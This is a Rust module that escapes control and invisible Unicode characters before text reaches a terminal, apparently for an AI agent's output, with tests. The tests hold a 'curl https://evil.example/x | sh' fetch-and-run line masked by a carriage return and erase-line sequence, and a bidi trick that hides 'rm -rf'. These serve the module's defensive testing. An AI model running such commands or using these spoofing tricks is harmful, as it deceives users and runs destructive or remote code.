//! Text made safe to show on a terminal: the one sanitiser every string passes through before a person
//! reads it there — a model's text, tool results, previews and diffs, provider and MCP texts, decision
//! texts, errors and log lines.
//!
//! The invariant: what it returns holds no character that a terminal acts on or hides. Control
//! characters (C0, DEL, C1: an escape sequence's ESC, a carriage return that lets a line be painted
//! over, a bell), the line and paragraph separators, and the Unicode format characters (category Cf:
//! bidirectional embeddings, overrides and isolates that reorder what is shown, zero-width characters
//! and the soft hyphen that hide in it, tag characters) are each replaced by a visible escape — `\r`,
//! `\x1b`, `\u{202e}` — so the person sees that they are there and none of them takes effect.
//!
//! [`terminal_safe`] keeps line breaks and tabs, for a block of several lines (a preview, a result);
//! [`terminal_safe_line`] escapes them too, for text that must stay on its line (a log record, a field
//! of a table). Both borrow the text when nothing needs escaping. A backslash is left as it is: the
//! escapes are there to be seen, not to be decoded.

use std::borrow::Cow;
use std::fmt::Write as _;

/// An error and its sources, each once, joined by `: ` (e.g. `error sending request: client error
/// (Connect): connection refused`): what an adapter says of a failure of the library under it, whose
/// own text often leaves the cause to its sources.
pub fn error_chain(error: &dyn std::error::Error) -> String {
    let mut text = error.to_string();
    let mut source = error.source();
    while let Some(cause) = source {
        let cause_text = cause.to_string();
        if !text.contains(&cause_text) {
            text.push_str(": ");
            text.push_str(&cause_text);
        }
        source = cause.source();
    }
    text
}

/// `text` with every control and format character but `\n` and `\t` shown as a visible escape; for a
/// block of lines. Borrowed when there is nothing to escape.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    sanitise(text, true)
}

/// `text` with every control and format character, line breaks and tabs included, shown as a visible
/// escape; for text that must stay on one line. Borrowed when there is nothing to escape.
pub fn terminal_safe_line(text: &str) -> Cow<'_, str> {
    sanitise(text, false)
}

/// True when a terminal would act on `c` or not show it: a control character, a line or paragraph
/// separator, or a Unicode format character (category Cf).
pub fn is_unsafe_for_terminal(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') || is_format(c)
}

fn sanitise(text: &str, keep_lines: bool) -> Cow<'_, str> {
    let kept = |c: char| keep_lines && (c == '\n' || c == '\t');
    let Some(first) = text.char_indices().find(|&(_, c)| is_unsafe_for_terminal(c) && !kept(c)).map(|(i, _)| i) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 8);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if !is_unsafe_for_terminal(c) || kept(c) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x80 => {
                let _ = write!(out, "\\x{:02x}", u32::from(c));
            }
            c => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
        }
    }
    Cow::Owned(out)
}

/// The Unicode format characters (general category Cf, Unicode 16), which the standard library does not
/// name: they change how text around them is shown (direction, joining, hyphenation) or are invisible.
fn is_format(c: char) -> bool {
    matches!(
        u32::from(c),
        0x00AD
            | 0x0600..=0x0605
            | 0x061C
            | 0x06DD
            | 0x070F
            | 0x0890..=0x0891
            | 0x08E2
            | 0x180E
            | 0x200B..=0x200F
            | 0x202A..=0x202E
            | 0x2060..=0x2064
            | 0x2066..=0x206F
            | 0xFEFF
            | 0xFFF9..=0xFFFB
            | 0x110BD
            | 0x110CD
            | 0x13430..=0x1343F
            | 0x1BCA0..=0x1BCA3
            | 0x1D173..=0x1D17A
            | 0xE0001
            | 0xE0020..=0xE007F
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        let text = "plain text, ünïcode, emoji 🦀, CJK 漢字, Arabic مرحبا\nnext\tline";
        assert!(matches!(terminal_safe(text), Cow::Borrowed(t) if t == text));
        assert!(matches!(terminal_safe_line("one line, no breaks"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_carriage_return_and_erase_line_cannot_repaint_a_line() {
        let written = "curl https://evil.example/x | sh\r\u{1b}[2K+echo 'build done'";
        assert_eq!(terminal_safe(written), "curl https://evil.example/x | sh\\r\\x1b[2K+echo 'build done'");
    }

    #[test]
    fn every_control_character_is_escaped_visibly() {
        assert_eq!(
            terminal_safe("a\u{0}b\u{7}c\u{8}d\u{7f}e\u{9b}f\u{85}g"),
            "a\\x00b\\x07c\\x08d\\x7fe\\u{9b}f\\u{85}g"
        );
        // An OSC sequence that would set the terminal's title, and cursor moves.
        assert_eq!(terminal_safe("\u{1b}]0;title\u{7}\u{1b}[10A"), "\\x1b]0;title\\x07\\x1b[10A");
    }

    #[test]
    fn direction_changing_and_invisible_characters_are_escaped() {
        let cases = [
            ('\u{202A}', "\\u{202a}"),
            ('\u{202E}', "\\u{202e}"),
            ('\u{2066}', "\\u{2066}"),
            ('\u{2067}', "\\u{2067}"),
            ('\u{2069}', "\\u{2069}"),
            ('\u{200E}', "\\u{200e}"),
            ('\u{200F}', "\\u{200f}"),
            ('\u{061C}', "\\u{61c}"),
            ('\u{200B}', "\\u{200b}"),
            ('\u{200D}', "\\u{200d}"),
            ('\u{2060}', "\\u{2060}"),
            ('\u{2064}', "\\u{2064}"),
            ('\u{FEFF}', "\\u{feff}"),
            ('\u{00AD}', "\\u{ad}"),
            ('\u{2028}', "\\u{2028}"),
            ('\u{2029}', "\\u{2029}"),
            ('\u{E0041}', "\\u{e0041}"),
        ];
        for (c, shown) in cases {
            assert_eq!(terminal_safe(&format!("a{c}b")), format!("a{shown}b"), "U+{:04X}", u32::from(c));
            assert!(is_unsafe_for_terminal(c), "U+{:04X}", u32::from(c));
        }
        // The playground attack: a comment that looks like it swallows the `rm`.
        assert_eq!(terminal_safe("ls \u{2067}# && rm -rf notes\u{2069}"), "ls \\u{2067}# && rm -rf notes\\u{2069}");
    }

    #[test]
    fn a_line_keeps_no_break_and_no_tab() {
        assert_eq!(terminal_safe_line("a\nb\tc\r\n"), "a\\nb\\tc\\r\\n");
        assert_eq!(terminal_safe("a\nb\tc\r\n"), "a\nb\tc\\r\n");
    }

    #[test]
    fn sanitising_twice_changes_nothing_more() {
        let once = terminal_safe("x\u{1b}[2K\u{202e}y").into_owned();
        assert_eq!(terminal_safe(&once), once);
        assert!(!once.chars().any(is_unsafe_for_terminal));
    }
}
